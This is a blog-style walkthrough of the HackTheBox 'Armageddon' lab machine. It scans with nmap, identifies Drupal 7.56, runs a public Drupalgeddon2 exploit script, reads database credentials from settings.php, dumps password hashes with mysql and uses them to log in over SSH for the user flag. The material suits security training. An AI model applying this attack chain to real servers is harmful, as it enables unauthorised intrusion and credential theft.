HackTheBox : Armageddon Walkthrough

Al1z4deh:~# echo "Welcome"
3 min readJun 27, 2021

Step 1:

Let’s scan for open ports with Nmap

Command: nmap -A

We see open ports here:

22/tcp-SSH port

80/tcp-HTTP port

Step 2:

Lets check the http site on port 80:

If we look at the place where ‘CHANGELOG.txt’ is written in port 80, we will learn the version of Drupal.Step 3:

Now let’s find exploit for Drupal 7.56

Command: searchspolit Drupal 7.56

Step 4:

Let’s infiltrate the system now

Command: ruby /usr/share/exploitdb/exploits/php/webapps/44449.rbStep 5:

Let’s look inside

Command: ls

Now let’s look at all the files

Command: find

Now let’s check all the files and the file you see contains some information we need.Let’s check the file

Command: cat /sites/default/settings.php

Step 6:

Let’s explore the tables in the database!

Command:mysql -u ****** -p************** -D drupal -e ‘show tables;’

When we look at the whole list, we see a list of ‘users’ with possible names and passwords.

Lets check the users list!Command: mysql -u ********* -p****************** -D drupal -e ‘select * from users;’

We get 2 users and password hashes one of which is an admin!

You can crack this password with the ‘john’ tool.

Step 7:

Nowlet’s connect to ssh-a with the information we have.

Command : ssh username@

We arein

Checking the filesystem we have user.txt our first flag!